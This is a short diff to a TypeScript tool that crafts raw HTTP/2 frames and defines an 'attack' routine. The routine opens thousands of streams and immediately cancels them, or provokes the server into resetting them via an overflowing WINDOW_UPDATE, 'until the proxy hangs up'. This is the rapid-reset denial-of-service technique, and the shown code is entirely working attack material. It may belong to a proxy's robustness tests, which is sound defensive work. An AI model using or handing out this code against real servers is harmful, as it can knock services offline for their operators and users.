@@ -47,8 +47,8 @@ const GET = Buffer.concat([
 const CANCEL = Buffer.from([0, 0, 0, 8]);
 const headers = (id: number) => frame(1, 5, id, GET);
 const reset = (id: number) => frame(3, 0, id, CANCEL);
-/** A stream that breaks a rule of its own, so that the server has to reset it: a window widened by nothing. */
-const provoke = (id: number) => frame(8, 0, id, Buffer.alloc(4));
+/** A stream that breaks a rule of its own, so that the server has to reset it: a window beyond the largest. */
+const provoke = (id: number) => frame(8, 0, id, Buffer.from([0x7f, 0xff, 0xff, 0xff]));
 
 /** Streams by the thousand, and the end of each at once, until the proxy hangs up. */
 function attack(end: (id: number) => Buffer): Promise<void> {
